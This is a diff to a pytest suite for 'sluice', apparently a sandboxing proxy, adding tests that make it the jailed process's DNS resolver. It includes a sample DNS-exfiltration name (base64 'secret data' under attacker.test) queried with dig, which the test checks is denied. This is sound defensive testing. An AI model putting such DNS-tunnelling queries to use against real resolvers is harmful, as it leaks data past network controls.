@@ -2,7 +2,9 @@
 destination is sluice's listener. The jail's parent, and so sluice's upstream side, stays in
 this (the test) namespace, where the harness's DNS server and origins are; the jail has only
 its own loopback. Through the proxy variables allowed sites work and internal ones are refused;
-a client that ignores the variables reaches nothing; CMD's exit status is jail's."""
+a client that ignores the variables reaches nothing; CMD's exit status is jail's.
+
+Issue 13, item 6: sluice is the jail's resolver too (127.0.0.1:53), under the same policy."""
 
 import json
 import os
@@ -13,7 +15,7 @@ import tempfile
 
 import pytest
 
-from sluice_proc import BASE_CONFIG, SANITIZER_MARKERS, to_yaml
+from sluice_proc import BASE_CONFIG, SANITIZER_MARKERS, merge, to_yaml
 
 JAIL_FAILED = 125
 NOBODY = "65534"
@@ -297,3 +299,68 @@ def test_jail_as_root_prints_no_root_warning(sluice_bin, jail_cfg):
     r = jail(sluice_bin, jail_cfg, ["true"])
     assert r.returncode == 0, r.stderr
     assert "running as root" not in r.stderr, r.stderr
+
+
+
+# ---- sluice as the jail's resolver (issue 13, item 6) --------------------------------------
+
+needs_dig = pytest.mark.skipif(shutil.which("dig") is None,
+                               reason="dig (bind9-dnsutils) is not installed")
+DIG = "dig +tries=1 +time=3"
+# A name that carries data, as an exfiltration through DNS would.
+EXFIL = "c2VjcmV0IGRhdGE.attacker.test"
+
+
+@pytest.fixture
+def jail_policy(tmp_path):
+    """Writes the suite's base config with `extra` merged in; returns its path."""
+    made = []
+
+    def write(**extra):
+        path = tmp_path / ("policy%d.yaml" % len(made))
+        path.write_text(to_yaml(merge(BASE_CONFIG, extra)) + "\n")
+        made.append(path)
+        return str(path)
+    return write
+
+
+def sections(stdout):
+    """The outputs of a script that echoes "==" between its commands."""
+    return [part.strip() for part in stdout.split("==\n")]
+
+
+def jail_steps(sluice_bin, cfg, steps, **kw):
+    """Runs the shell commands of steps ({name: command}) one after the other in one jail;
+    returns the result and {name: its output}."""
+    r = jail(sluice_bin, cfg, ["sh", "-c", "; echo ==; ".join(steps.values())], **kw)
+    assert r.returncode == 0, r.stderr
+    out = sections(r.stdout)
+    assert len(out) == len(steps), r.stdout
+    return r, dict(zip(steps, out))
+
+
+@needs_dig
+def test_dig_in_the_jail_asks_sluice_under_the_policy(sluice_bin, jail_policy, dns, tmp_path):
+    """An allowed name resolves through sluice (and so the test's upstream server), over UDP
+    and TCP; a denied one gets NXDOMAIN and never leaves."""
+    cfg = jail_policy(allow=["public.test"])
+    log = str(tmp_path / "decisions.jsonl")
+    r, out = jail_steps(sluice_bin, cfg, {
+        "udp": "%s +short @127.0.0.1 public.test A" % DIG,
+        "tcp": "%s +short +tcp @127.0.0.1 public.test A" % DIG,
+        # [::1]:53 too, where the jail has IPv6 (as [::1]:3128 is).
+        "ipv6": "if grep -q . /proc/net/if_inet6; then %s +short @::1 public.test A; "
+                "else echo 192.0.2.10; fi" % DIG,
+        "denied": "%s @127.0.0.1 %s A" % (DIG, EXFIL),
+        "denied_tcp": "%s +tcp @127.0.0.1 %s AAAA" % (DIG, EXFIL),
+    }, log=log)
+    for step in ("udp", "tcp", "ipv6"):
+        assert out[step] == "192.0.2.10", (step, r.stdout)
+    for step in ("denied", "denied_tcp"):
+        assert "status: NXDOMAIN" in out[step], (step, r.stdout)
+    assert dns.queries("public.test") >= 1
+    assert dns.queries(EXFIL) == 0
+    with open(log) as f:
+        lines = [e for e in decisions(f.read()) if e.get("kind") == "dns"]
+    assert {(e["name"], e["decision"], e["client"].rsplit(":", 1)[0]) for e in lines} >= {
+        ("public.test", "allow", "127.0.0.1"), (EXFIL.lower(), "deny", "127.0.0.1")}, lines
